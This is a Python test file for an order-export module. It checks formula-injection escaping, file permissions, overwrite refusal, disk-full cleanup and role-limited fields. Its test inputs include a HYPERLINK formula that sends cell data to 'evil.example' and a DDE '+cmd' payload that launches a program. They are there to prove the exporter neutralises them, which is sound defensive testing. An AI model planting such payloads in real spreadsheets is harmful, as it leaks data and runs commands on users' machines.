import csv
import io
import json
import stat
import zipfile
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from archiver.errors import LocalDiskError, RequestError
from archiver.lookup.exporting import flat, harmless, write_export
from archiver.lookup.shown import shown
from archiver.policy import Role
from tests.lookup.orders import an_order

EVIL = '=HYPERLINK("http://evil.example/?"&A1)'


def orders() -> list[dict[str, object]]:
    product = an_order()["product"] | {"name": EVIL}
    return [shown(an_order(product=product), Role.SUPPORT), shown(an_order(), Role.SUPPORT)]


@pytest.mark.parametrize("kind", ["csv", "xlsx", "parquet", "jsonl"])
def test_every_row_carries_the_number_of_its_access_record(tmp_path: Path, kind: str) -> None:
    path = tmp_path / f"orders.{kind}"
    size = write_export(path, orders(), "main/7")
    content = path.read_bytes()
    assert len(content) == size
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert [one.name for one in tmp_path.iterdir()] == [path.name]
    if kind == "csv":
        rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
        assert [row["access"] for row in rows] == ["main/7", "main/7"]
        assert rows[0]["product.name"] == f"'{EVIL}"
        assert rows[0]["money.paid"] == "10.00"
    elif kind == "xlsx":
        with zipfile.ZipFile(path) as book:
            texts = book.read("xl/sharedStrings.xml").decode()
            sheet = book.read("xl/worksheets/sheet1.xml").decode()
            assert "main/7" in book.read("docProps/core.xml").decode()
        assert "main/7" in texts
        assert "<f>" not in sheet
    elif kind == "parquet":
        table = pq.read_table(path)
        assert table["access"].to_pylist() == ["main/7", "main/7"]
        assert table["product.name"][0].as_py() == EVIL  # no spreadsheet: as it is
    else:
        lines = [json.loads(line) for line in content.decode().splitlines()]
        assert [line["access"] for line in lines] == ["main/7", "main/7"]
        assert lines[0]["product"]["name"] == EVIL


@pytest.mark.parametrize("text", ["=1+1", "+cmd|' /C calc'!A0", "-1+1", "@SUM(1)", "\t=1", "＝1"])
def test_what_a_spreadsheet_takes_for_a_formula_is_made_text(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("text", ["-5.00", "+8613800000000", "10", "a=b", "点卡", ""])
def test_numbers_and_plain_text_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


def test_a_file_that_is_there_is_not_replaced(tmp_path: Path) -> None:
    path = tmp_path / "orders.csv"
    path.write_text("mine")
    with pytest.raises(RequestError):
        write_export(path, orders(), "main/7")
    assert path.read_text() == "mine"


@pytest.mark.parametrize("name", ["orders", "orders.txt", "orders.xls", "none/orders.csv"])
def test_a_name_that_says_no_format_or_no_place_is_refused(tmp_path: Path, name: str) -> None:
    with pytest.raises(RequestError):
        write_export(tmp_path / name, orders(), "main/7")


def test_a_full_disk_leaves_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def full(_: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("os.fsync", full)
    with pytest.raises(LocalDiskError):
        write_export(tmp_path / "orders.csv", orders(), "main/7")
    assert list(tmp_path.iterdir()) == []


def test_a_text_too_long_for_a_cell_is_refused_not_cut(tmp_path: Path) -> None:
    product = an_order()["product"] | {"name": "x" * 40_000}
    long = shown(an_order(product=product), Role.SUPPORT)
    with pytest.raises(RequestError, match="32,767"):
        write_export(tmp_path / "orders.xlsx", [long], "main/7")
    assert write_export(tmp_path / "orders.csv", [long], "main/7") > 40_000


def test_a_flat_row_has_what_the_role_sees_and_nothing_else() -> None:
    row = flat(shown(an_order(), Role.SUPPORT), "main/7")
    assert "buyer.client_port" not in row
    assert flat(shown(an_order(), Role.COMPLIANCE), "main/7")["buyer.client_port"] is None
    assert json.loads(row["deliveries"] or "")[0]["hint"] == "1-A"
